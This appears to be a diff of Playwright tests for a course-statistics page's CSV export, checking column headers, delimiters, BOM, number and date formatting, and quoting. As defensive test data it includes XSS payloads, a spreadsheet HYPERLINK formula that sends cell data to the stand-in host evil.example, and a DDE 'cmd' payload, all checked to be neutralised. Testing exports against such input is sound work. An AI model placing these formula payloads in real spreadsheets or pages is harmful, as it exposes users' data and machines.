@@ -1,6 +1,5 @@
-import { readFile } from 'node:fs/promises';
 import { expect, test, type Locator, type Page } from '@playwright/test';
-import { parseCsv, type CsvDelimiter } from '../src/lib/csv';
+import { browserToday, downloadCsv } from './csv-download';
 import {
   allowWholeCourseLoads,
   LOAD_ALL_TIMEOUT,
@@ -27,22 +26,20 @@ async function headerTexts(table: Locator): Promise<string[]> {
   );
 }
 
-/** Clicks Export CSV and reads the file it downloads, raw bytes and parsed rows. */
-async function exportCsv(page: Page, delimiter: CsvDelimiter) {
-  const download = page.waitForEvent('download');
-  await page.getByRole('button', { name: 'Export CSV' }).click();
-  const file = await download;
-  const path = await file.path();
-  const bytes = await readFile(path);
-  const text = bytes.toString('utf8');
-  return { name: file.suggestedFilename(), bytes, text, rows: parseCsv(text, delimiter) };
+/** The export's header for the table's headers: User ID and Email first, units and the time zone named. */
+function csvHeaderFor(headers: readonly string[], timeZone: string): string[] {
+  const units: Record<string, string> = {
+    Progress: 'Progress (%)',
+    Deadline: `Deadline (${timeZone})`,
+    'Last activity': `Last activity (${timeZone})`,
+    'Time spent': 'Time spent (seconds)',
+  };
+  const rest = headers.filter((name) => name !== 'Email' && name !== 'User ID').map((name) => units[name] ?? name);
+  return ['User ID', 'Email', ...rest];
 }
 
-const today = () => {
-  const now = new Date();
-  const pad = (value: number) => String(value).padStart(2, '0');
-  return `${now.getFullYear()}-${pad(now.getMonth() + 1)}-${pad(now.getDate())}`;
-};
+const TIME_ZONE = 'Europe/Moscow';
+test.use({ timezoneId: TIME_ZONE });
 
 test('exports exactly the rows shown and the visible columns, with a BOM, and never asks the API', async ({ page }) => {
   // Reads all 10,000 rows, twice.
@@ -58,7 +55,7 @@ test('exports exactly the rows shown and the visible columns, with a BOM, and ne
   const table = statsTable(page, 1000);
 
   // An extra column, shown from the Columns menu, goes last in the file as on screen.
-  await page.getByRole('button', { name: 'Columns' }).click();
+  await page.getByRole('button', { name: 'Columns', exact: true }).click();
   await page.getByRole('checkbox', { name: 'Stat ID' }).check();
   await page.keyboard.press('Escape');
   const headers = await headerTexts(table);
@@ -69,19 +66,20 @@ test('exports exactly the rows shown and the visible columns, with a BOM, and ne
 
   await page.getByRole('combobox', { name: 'Delimiter' }).selectOption('Semicolon');
   const before = requests.length;
-  const file = await exportCsv(page, ';');
+  const file = await downloadCsv(page, ';');
   expect(requests.length).toBe(before);
-  expect(file.name).toBe(`course-1000-stats-${today()}.csv`);
+  // The file name says the course, the quick filter and the day.
+  expect(file.name).toBe(`course-1000-not-passed-${await browserToday(page)}.csv`);
   expect([...file.bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
   expect(file.text).toContain('\r\n');
 
-  const [header, ...rows] = file.rows;
-  expect(header).toEqual(headers);
+  const [header = [], ...rows] = file.rows;
+  expect(header).toEqual(csvHeaderFor(headers, TIME_ZONE));
   expect(rows).toHaveLength(shown);
   await expect(page.getByRole('status').filter({ hasText: /^Exported/ })).toHaveText(
     `Exported ${shown.toLocaleString('en-US')} rows to ${file.name}.`,
   );
-  const column = (name: string) => headers.indexOf(name);
+  const column = (name: string) => header.indexOf(name);
   // Sorted as shown: by score, highest first; filtered as shown: nobody passed.
   const scores = rows.map((row) => Number(row[column('Score')]));
   expect(scores).toEqual([...scores].sort((a, b) => b - a));
@@ -92,7 +90,7 @@ test('exports exactly the rows shown and the visible columns, with a BOM, and ne
       [...element.querySelectorAll('tbody tr[aria-rowindex]')]
         .slice(0, 5)
         .map((row) => row.children[index]?.textContent?.trim()),
-    column('Stat ID'),
+    headers.indexOf('Stat ID'),
   );
   expect(rows.slice(0, 5).map((row) => row[column('Stat ID')])).toEqual(firstIds);
   expect(new Set(rows.map((row) => row[column('Stat ID')])).size).toBe(shown);
@@ -111,26 +109,27 @@ test('exports the rows of the page outside whole-course mode, with commas and th
   await openSignedIn(page, '/courses/106/stats');
   await expect(page.getByText('Showing 6 rows on page 1.')).toBeVisible();
   await page.getByRole('combobox', { name: 'Delimiter' }).selectOption('Comma');
-  const file = await exportCsv(page, ',');
+  const file = await downloadCsv(page, ',');
   const [header, ...rows] = file.rows;
   expect(header).toEqual([
-    'User',
+    'User ID',
     'Email',
+    'User',
     'Session',
     'Status',
-    'Progress',
+    'Progress (%)',
     'Score',
-    'Deadline',
-    'Last activity',
-    'Time spent',
+    `Deadline (${TIME_ZONE})`,
+    `Last activity (${TIME_ZONE})`,
+    'Time spent (seconds)',
     'Tasks',
     'Certificate',
   ]);
   expect(rows).toHaveLength(6);
-  expect(rows.map((row) => row[0])).toContain('<img src=x onerror=alert(1)>');
+  expect(rows.map((row) => row[2])).toContain('<img src=x onerror=alert(1)>');
   expect(rows.map((row) => row[1])).toContain('"><svg onload=alert(2)>@example.com');
   // Only what would have been a link is exported as one: never the javascript: URL.
-  const certificates = rows.map((row) => row[10]);
+  const certificates = rows.map((row) => row[11]);
   expect(certificates).toContain('https://files.example.com/certificates/106/1.pdf');
   expect(file.text).not.toContain('javascript:');
 });
@@ -172,19 +171,73 @@ test('cells that a spreadsheet would run as formulas are neutralised with a lead
   await expect(page.getByText('Showing 5 rows on page 1.')).toBeVisible();
 
   await page.getByRole('combobox', { name: 'Delimiter' }).selectOption('Semicolon');
-  const file = await exportCsv(page, ';');
+  const file = await downloadCsv(page, ';');
   const [, ...rows] = file.rows;
+  // Columns: User ID, Email, User, Session, ...
   const byId = new Map(rows.map((cells, index) => [index + 1, cells]));
-  expect(byId.get(1)?.[0]).toBe('\'=HYPERLINK("http://evil.example/?x="&A1,"Click")');
-  expect(byId.get(2)?.[0]).toBe("'+1+cmd|'/C calc'!A0");
-  expect(byId.get(2)?.[2]).toBe("'-2+3");
-  expect(byId.get(3)?.[0]).toBe("'@SUM(1+1)");
+  expect(byId.get(1)?.[2]).toBe('\'=HYPERLINK("http://evil.example/?x="&A1,"Click")');
+  expect(byId.get(2)?.[2]).toBe("'+1+cmd|'/C calc'!A0");
+  expect(byId.get(2)?.[3]).toBe("'-2+3");
+  expect(byId.get(3)?.[2]).toBe("'@SUM(1+1)");
   expect(byId.get(3)?.[1]).toBe("'=1+1@example.com");
-  expect(byId.get(4)?.[0]).toBe("'\tTabbed");
-  expect(byId.get(4)?.[2]).toBe('a=b, -c');
+  expect(byId.get(4)?.[2]).toBe("'\tTabbed");
+  expect(byId.get(4)?.[3]).toBe('a=b, -c');
   // Cyrillic survives as UTF-8, and a cell holding the delimiter or quotes is quoted (RFC 4180).
-  expect(byId.get(5)?.[0]).toBe('Анна Смирнова');
-  expect(byId.get(5)?.[2]).toBe('Поток 1; "весна"');
+  expect(byId.get(5)?.[2]).toBe('Анна Смирнова');
+  expect(byId.get(5)?.[3]).toBe('Поток 1; "весна"');
   expect(file.text).toContain('"Поток 1; ""весна"""');
   expect(file.text).toContain('"\'=HYPERLINK(""http://evil.example/?x=""&A1,""Click"")"');
+  // The other delimiter is quoted too, so a spreadsheet that splits on commas keeps the cell whole.
+  expect(file.text).toContain(';"a=b, -c";');
+});
+
+test('numbers stay numbers and dates read as dates, whichever delimiter is chosen', async ({ page }) => {
+  const token = uniqueToken('export-numbers');
+  const learner = {
+    id: 1,
+    user_id: 501,
+    username: 'Semi;colon',
+    user_email: 'learner1@example.com',
+    course_id: 78,
+    coursename: 'Scripted',
+    completed: false,
+    success: false,
+    course_session_id: 1,
+    course_session_name: 'Lyon, Paris',
+    deadline: '2026-11-25T09:05:00Z',
+    time_spent: -12.5,
+    quiz_count: null,
+    score: -5,
+    last_activity: '2026-11-24T23:30:00+03:00',
+    progress: 40,
+    completed_tasks: 3,
+    cert_file: null,
+  };
+  await scriptUpstream(token, [], { path: '/course_stats$', status: 200, body: [learner] });
+  await page.goto(`${PROXY_URL}/courses/78/stats?quick=not_passed`);
+  await signIn(page, token);
+  await expect(page.getByRole('button', { name: 'Semi;colon' })).toBeVisible();
+
+  for (const delimiter of [';', ','] as const) {
+    await page.getByRole('combobox', { name: 'Delimiter' }).selectOption(delimiter === ';' ? 'Semicolon' : 'Comma');
+    const file = await downloadCsv(page, delimiter);
+    expect(file.name).toBe(`course-78-not-passed-${await browserToday(page)}.csv`);
+    const [header = [], row = []] = file.rows;
+    const cell = (name: string) => row[header.indexOf(name)];
+    expect(cell('User ID')).toBe('501');
+    // Negative numbers are numbers: no formula guard; the decimal mark is the one a region with this delimiter uses.
+    expect(cell('Score')).toBe('-5');
+    expect(cell('Time spent (seconds)')).toBe(delimiter === ';' ? '-12,5' : '-12.5');
+    expect(cell('Progress (%)')).toBe('40');
+    // YYYY-MM-DD HH:MM in the browser's time zone, which the header names.
+    expect(cell(`Deadline (${TIME_ZONE})`)).toBe('2026-11-25 12:05');
+    expect(cell(`Last activity (${TIME_ZONE})`)).toBe('2026-11-24 23:30');
+    // A cell holding either delimiter is quoted, whatever the delimiter.
+    expect(cell('User')).toBe('Semi;colon');
+    expect(cell('Session')).toBe('Lyon, Paris');
+    const line = file.text.split('\r\n')[1] ?? '';
+    expect(line).toContain('"Semi;colon"');
+    expect(line).toContain('"Lyon, Paris"');
+    expect(line).toContain(`${delimiter}-5${delimiter}`);
+  }
 });
